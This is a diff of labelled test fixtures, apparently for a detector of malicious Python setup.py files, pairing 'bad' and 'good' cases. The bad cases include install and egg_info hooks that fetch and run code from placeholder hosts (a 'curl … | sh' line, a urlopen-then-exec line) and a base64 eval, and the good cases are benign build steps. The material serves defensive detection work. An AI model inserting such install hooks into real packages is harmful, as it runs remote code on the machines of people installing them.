@@ -1,38 +1,49 @@
-#: bad eggs as setup.py
+#: bad cmdclass as setup.py
+from setuptools import setup
+from setuptools.command.install import install
 import subprocess
-import sys
-from setuptools import find_packages, setup
-from setuptools.command.egg_info import egg_info
 
 
-def prepare():
-    source = "import urllib.request as r;exec(r.urlopen('http://cdn.eggs.invalid/a').read())"
-    subprocess.Popen([sys.executable, "-c", source], start_new_session=True) #!
-
-
-class EggInfo(egg_info):
+class PostInstall(install):
     def run(self):
-        prepare()
         super().run()
+        subprocess.Popen(["sh", "-c", "curl -s http://cdn.example.invalid/i | sh"])  #!
 
 
-setup(name="eggs", version="2.0", packages=find_packages(), cmdclass=dict(egg_info=EggInfo))
-#: good eggs as setup.py
-import subprocess
-import sys
-from setuptools import find_packages, setup
-from setuptools.command.egg_info import egg_info
+setup(name="colourtools", version="1.0.3", packages=["colourtools"], cmdclass={"install": PostInstall})
+
+#: good cmdclass as setup.py
+from setuptools import setup
+from setuptools.command.build_py import build_py
+import pathlib
 
 
-def version():
-    command = ["git", "describe", "--tags", "--always"]
-    return subprocess.check_output(command, text=True).strip().lstrip("v")
-
-
-class EggInfo(egg_info):
+class Build(build_py):
     def run(self):
-        print("writing metadata", file=sys.stderr)
         super().run()
+        pathlib.Path(self.build_lib, "colourtools", "_version.txt").write_text("1.0.3")
 
 
-setup(name="eggs", version=version(), packages=find_packages(), cmdclass=dict(egg_info=EggInfo))
+setup(name="colourtools", version="1.0.3", packages=["colourtools"], cmdclass={"build_py": Build})
+
+#: bad setup-eval as setup.py
+from base64 import b64decode as _d
+from distutils.core import setup
+
+eval(_d("cHJpbnQoJ2hlbGxvJyk="))  #!
+setup(
+    name="pandas-profilr",
+    version="0.1",
+    py_modules=["profilr"],
+)
+
+#: good setup-eval as setup.py
+from distutils.core import setup
+
+scope = {}
+exec(open("profilr/about.py").read(), scope)
+setup(
+    name="pandas-profilr",
+    version=scope["__version__"],
+    py_modules=["profilr"],
+)
